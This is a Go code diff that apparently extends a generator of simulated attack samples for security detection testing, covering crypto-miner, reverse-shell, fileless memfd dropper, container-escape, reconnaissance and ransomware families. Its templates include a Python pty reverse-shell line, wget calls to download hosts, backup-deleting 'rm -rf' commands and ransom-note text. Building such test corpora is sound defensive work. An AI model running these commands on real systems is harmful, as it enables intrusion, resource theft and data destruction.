@@ -32,6 +32,12 @@ func minerVariants() []Variant {
 	for i := 0; i < 10; i++ {
 		pool := fmt.Sprintf("%s:%d,%s:%d", pick(poolHosts, i), pick(poolPorts, i), pick(poolHosts, i+3), pick(poolPorts, i+2))
 		bin := "/usr/local/bin/" + pick(names, i)
+		if i%2 == 1 {
+			f.addExec("a miner binary as the entrypoint: stratum login, then hashing", []string{pick([]string{"/usr/local/bin/", "/opt/", "/usr/sbin/"}, i) + pick(names, i+2),
+				"mine", "-addr", pool, "-wallet", wallet(i), "-agent", fmt.Sprintf("XMRig/6.%d.0", 18+i%4), "-tries", fmt.Sprint(1 + i%3),
+				"-secs", fmt.Sprint(3 + i%6), "-threads", fmt.Sprint(1 + i%2)})
+			continue
+		}
 		f.add("a miner binary: stratum login to its pools, then hashing on every thread", fmt.Sprintf(`cp %s %s
 %s dial -addr %s -payload stratum -wallet %s -agent XMRig/6.%d.0 -tries %d
 exec %s burn -secs %d -threads %d
@@ -157,6 +163,11 @@ s.connect(("%s",%d)); [os.dup2(s.fileno(),f) for f in (0,1,2)]; pty.spawn("/bin/
 	for i := 0; i < 7; i++ {
 		addrs := fmt.Sprintf("%s:%d,%s:%d", pick(c2Hosts, i), pick(c2Ports, i+1), pick(c2Hosts, i+3), pick(c2Ports, i+4))
 		bin := pick([]string{"/usr/local/bin/agent", "/usr/sbin/sshd-session", "/tmp/.s", "/usr/local/bin/monitor"}, i)
+		if i%2 == 1 {
+			f.addExec("a reverse shell binary as the entrypoint", []string{pick([]string{"/usr/local/bin/agent", "/usr/sbin/sshd-session", "/usr/local/bin/monitor"}, i),
+				"revshell", "-addr", addrs, "-tries", fmt.Sprint(2 + i%3)})
+			continue
+		}
 		f.add("compiled reverse shell: connect back, dup onto stdio, exec a shell", fmt.Sprintf(`mkdir -p %s
 cp %s %s
 exec %s revshell -addr %s -tries %d -interval %dms
@@ -233,6 +244,11 @@ open(F, ">", $p); print F $d; close F; chmod 0755, $p; system($p); unlink $p;'
 
 	f = newFamily(Dropper, "dropper-memfd", Busybox)
 	for i := 0; i < 6; i++ {
+		if i%2 == 1 {
+			f.addExec("a loader binary that runs its payload from a memfd", []string{"/usr/local/bin/" + pick([]string{"loader", "init-helper", "php"}, i),
+				"memfd", "-name", pick([]string{"kworker", "", "x"}, i), "-then", pick([]string{"compute -secs 0.5 -out /tmp/.r", "recon -users", "burn -secs 1 -threads 1"}, i)})
+			continue
+		}
 		f.add("fileless: copies itself into a memfd and executes it from there", fmt.Sprintf(`timeout 2 wget -q -O /dev/null http://%s/cfg || true
 exec %s memfd -name %s -then "%s"
 `, pick(dlHosts, i), BehavePath, pick([]string{"kworker", "", "x", "[kthreadd]", "php"}, i),
@@ -342,6 +358,10 @@ func escapeVariants() []Variant {
 	}
 	f := newFamily(Escape, "escape-go", Busybox)
 	for i := 0; i < 10; i++ {
+		if i%2 == 1 {
+			f.addExec("a breakout tool as the entrypoint: "+pick(steps, i), []string{pick([]string{"/usr/local/bin/cdk", "/usr/bin/deepce", "/opt/tool"}, i), "escape", "-steps", pick(steps, i)})
+			continue
+		}
 		f.add("compiled breakout attempts: "+pick(steps, i), fmt.Sprintf("exec %s escape -steps %s\n", BehavePath, pick(steps, i)))
 	}
 	out = append(out, f.out...)
@@ -406,6 +426,11 @@ done
 
 	f = newFamily(Recon, "recon-go", Busybox)
 	for i := 0; i < 7; i++ {
+		if i%2 == 1 {
+			f.addExec("a discovery binary as the entrypoint", append([]string{pick([]string{"/usr/local/bin/probe", "/usr/bin/sysinfo", "/opt/agent"}, i), "recon"},
+				strings.Fields(pick([]string{"-procs -net -users -scan 22,80,443,2375,2379,3306,6379,8080,10250", "-net -users -procs", "-procs -scan 21,22,23,25,80,110,443,445,3306,5432,6379,8080,9200"}, i))...))
+			continue
+		}
 		f.add("compiled discovery: /proc walk, network tables, accounts, local ports", fmt.Sprintf("%s recon %s\n", BehavePath, pick([]string{
 			"-procs -net -users -scan 22,80,443,2375,2379,3306,6379,8080,10250",
 			"-procs -scan 1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18,19,20,21,22,23,25,53,80",
@@ -533,6 +558,11 @@ echo "Your files are encrypted. Pay to recover: %s" > %s/README_DECRYPT.txt
 	f = newFamily(Destruction, "ransom-go", Busybox)
 	for i := 0; i < 7; i++ {
 		d := pick(dirs, i+3)
+		if i%2 == 1 {
+			f.addExec("ransomware binary as the entrypoint: AES-CTR every file, ransom note", []string{pick([]string{"/usr/local/bin/locker", "/usr/bin/backup-agent", "/opt/svc"}, i),
+				"encrypt", "-dir", d, "-ext", pick([]string{".locked", ".crypted", ".wncry"}, i)}, files(i+3))
+			continue
+		}
 		f.add("compiled ransomware: AES-CTR every file, remove originals, ransom note", fmt.Sprintf("%s encrypt -dir %s -ext %s -note %s\n%s\n",
 			BehavePath, d, pick([]string{".locked", ".crypted", ".wncry", ".encrypted"}, i), pick([]string{"README_RESTORE.txt", "HOW_TO_DECRYPT.txt", "!!READ_ME!!.txt"}, i),
 			pick([]string{"rm -rf /var/backups /opt/backup", "true", "rm -f /root/.ash_history"}, i)), files(i+3))
